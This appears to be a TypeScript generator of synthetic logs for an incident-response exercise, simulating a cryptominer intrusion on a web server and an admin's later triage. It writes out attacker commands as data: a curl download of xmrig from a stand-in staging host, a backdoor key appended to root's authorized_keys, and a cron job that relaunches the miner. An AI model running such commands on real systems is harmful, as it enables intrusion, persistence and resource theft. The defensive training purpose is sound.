/**
 * What the attacker does as root on web-01: fetch and start xmrig, leave a
 * key and a cron entry behind, then the miner's pool traffic until Monday,
 * a return visit with the planted key, and the admin who finally notices.
 */
import type { CaseLog } from './case-log';
import { sshLogout, type Login } from './auth-lines';
import { cronRun } from './cron-job';
import { MINUTE, SECOND } from './clock';
import { fileEvent, networkConnect } from './ecs';
import { auditExec } from './exec';
import { runSession } from './shell-session';
import { ADMINS, CAPTURE_END, HOSTS } from './pools';
import type { Rng } from './prng';
import { ATTACKER_IP, BACKDOOR_FINGERPRINT, BACKDOOR_KEY, CRON_ENTRY, MINER_ARGS, MINER_PATH, POOLS, STAGING, TIMELINE } from './story-facts';

const WEB = HOSTS.web;
const ROOT = { user: 'root', uid: 0 } as const;
const T = TIMELINE;

function poolTraffic(log: CaseLog, rng: Rng, pid: number, from: number, to: number): void {
  // xmrig keeps one stratum connection and reconnects when a job times out.
  for (let t = from; t < to; t += rng.int(35, 80) * MINUTE + rng.int(0, 59_999)) {
    const pool = t < T.poolFailover ? POOLS.primary : POOLS.fallback;
    log.event(WEB, t, networkConnect(WEB, t, 'root', { pid, exe: MINER_PATH }, { srcPort: rng.int(32768, 60999), dstIp: pool.ip, dstPort: pool.port, domain: pool.domain }));
  }
}

function installMiner(log: CaseLog, rng: Rng, rootShell: number): number {
  const parent = { pid: rootShell, exe: '/bin/bash' };
  const cwd = '/home/deploy';
  const curl = auditExec(log, WEB, T.download, { ...ROOT, parent, cwd, args: ['curl', '-fsSL', '-o', MINER_PATH, STAGING.url], exe: '/usr/bin/curl' });
  log.event(WEB, T.download + 412, networkConnect(WEB, T.download + 412, 'root', { pid: curl, exe: '/usr/bin/curl' }, { srcPort: rng.int(32768, 60999), dstIp: STAGING.ip, dstPort: 80 }));
  log.event(WEB, T.download + 2108, fileEvent(WEB, T.download + 2108, 'created', MINER_PATH, 'root', { pid: curl, exe: '/usr/bin/curl' }));
  const chmod = auditExec(log, WEB, T.chmod, { ...ROOT, parent, cwd, args: ['chmod', '+x', MINER_PATH], exe: '/usr/bin/chmod' });
  log.event(WEB, T.chmod + 3, fileEvent(WEB, T.chmod + 3, 'attributes_modified', MINER_PATH, 'root', { pid: chmod, exe: '/usr/bin/chmod' }));
  const miner = auditExec(log, WEB, T.minerStart, { ...ROOT, parent, cwd, args: MINER_ARGS });
  // -B daemonises: the pool traffic comes from the forked child.
  return miner + 1;
}

function persist(log: CaseLog, rootShell: number): void {
  const parent = { pid: rootShell, exe: '/bin/bash' };
  const cwd = '/home/deploy';
  const keyScript = `mkdir -p /root/.ssh && echo "${BACKDOOR_KEY}" >> /root/.ssh/authorized_keys && chmod 600 /root/.ssh/authorized_keys`;
  const sh = auditExec(log, WEB, T.authorizedKeys, { ...ROOT, parent, cwd, args: ['sh', '-c', keyScript], exe: '/bin/sh' });
  auditExec(log, WEB, T.authorizedKeys + 4, { ...ROOT, parent: { pid: sh, exe: '/bin/sh' }, cwd, args: ['mkdir', '-p', '/root/.ssh'], exe: '/usr/bin/mkdir' });
  log.event(WEB, T.authorizedKeys + 7, fileEvent(WEB, T.authorizedKeys + 7, 'updated', '/root/.ssh/authorized_keys', 'root', { pid: sh, exe: '/bin/sh' }));
  auditExec(log, WEB, T.authorizedKeys + 9, { ...ROOT, parent: { pid: sh, exe: '/bin/sh' }, cwd, args: ['chmod', '600', '/root/.ssh/authorized_keys'], exe: '/usr/bin/chmod' });

  const cronScript = `(crontab -l 2>/dev/null; echo "${CRON_ENTRY}") | crontab -`;
  const sh2 = auditExec(log, WEB, T.cronPersistence, { ...ROOT, parent, cwd, args: ['sh', '-c', cronScript], exe: '/bin/sh' });
  auditExec(log, WEB, T.cronPersistence + 3, { ...ROOT, parent: { pid: sh2, exe: '/bin/sh' }, cwd, args: ['crontab', '-l'], exe: '/usr/bin/crontab' });
  const ct = auditExec(log, WEB, T.cronPersistence + 5, { ...ROOT, parent: { pid: sh2, exe: '/bin/sh' }, cwd, args: ['crontab', '-'], exe: '/usr/bin/crontab' });
  log.event(WEB, T.cronPersistence + 9, fileEvent(WEB, T.cronPersistence + 9, 'created', '/var/spool/cron/crontabs/root', 'root', { pid: ct, exe: '/usr/bin/crontab' }));
}

/** The planted cron line fires every ten minutes; once, after the miner died, it relaunches it. */
function cronTicks(log: CaseLog, rng: Rng): number {
  let relaunched = 0;
  const command = CRON_ENTRY.slice(CRON_ENTRY.indexOf('pgrep'));
  for (let t = Math.ceil(T.cronPersistence / (10 * MINUTE)) * 10 * MINUTE; t < CAPTURE_END; t += 10 * MINUTE) {
    const tick = t + rng.int(5, 400);
    const { shPid, t: t0 } = cronRun(log, WEB, tick, { ...ROOT, command, lengthMs: rng.int(20, 60) });
    auditExec(log, WEB, t0 + 5, { ...ROOT, parent: { pid: shPid, exe: '/bin/sh' }, args: ['pgrep', '-x', 'xmrig'], exe: '/usr/bin/pgrep', cwd: '/root' });
    if (t >= T.minerRestart && relaunched === 0) {
      relaunched = auditExec(log, WEB, t0 + 12, { ...ROOT, parent: { pid: shPid, exe: '/bin/sh' }, args: MINER_ARGS, cwd: '/root' }) + 1;
    }
  }
  return relaunched;
}

export function generateImpact(log: CaseLog, rng: Rng, access: { rootShell: number; login: Login; sshdPid: number; session: number }): void {
  const miner = installMiner(log, rng, access.rootShell);
  persist(log, access.rootShell);
  sshLogout(log, WEB, T.logout, access.login, access.sshdPid, access.session);
  poolTraffic(log, rng, miner, T.minerStart + 2300, T.minerRestart - 7 * MINUTE);
  const relaunched = cronTicks(log, rng);
  poolTraffic(log, rng, relaunched, T.minerRestart + 10 * MINUTE + 40 * SECOND, CAPTURE_END);

  // The attacker checks on the rig through the planted key.
  runSession(log, rng, {
    host: WEB, start: T.returnVisit, home: '/root',
    login: { user: 'root', uid: 0, peer: { ip: ATTACKER_IP, port: 44120 }, method: 'publickey', fingerprint: BACKDOOR_FINGERPRINT },
    steps: ['ps -eo pid,pcpu,comm --sort=-pcpu', 'cat /proc/loadavg', 'ls -la /tmp'],
  });

  // Monday: alice wonders why web-01 runs hot.
  const alice = ADMINS[0];
  runSession(log, rng, {
    host: HOSTS.bastion, start: T.triage, home: '/home/alice',
    login: { user: alice.name, uid: alice.uid, peer: { ip: alice.officeIp, port: 61022 }, method: 'publickey', fingerprint: alice.keyFingerprint },
    steps: ['uptime', { ssh: WEB, steps: ['top -b -n 1', 'ps aux --sort=-%cpu', 'ls -la /tmp', 'sudo crontab -l', 'sudo cat /root/.ssh/authorized_keys', 'sudo last -a'] }],
  });
}
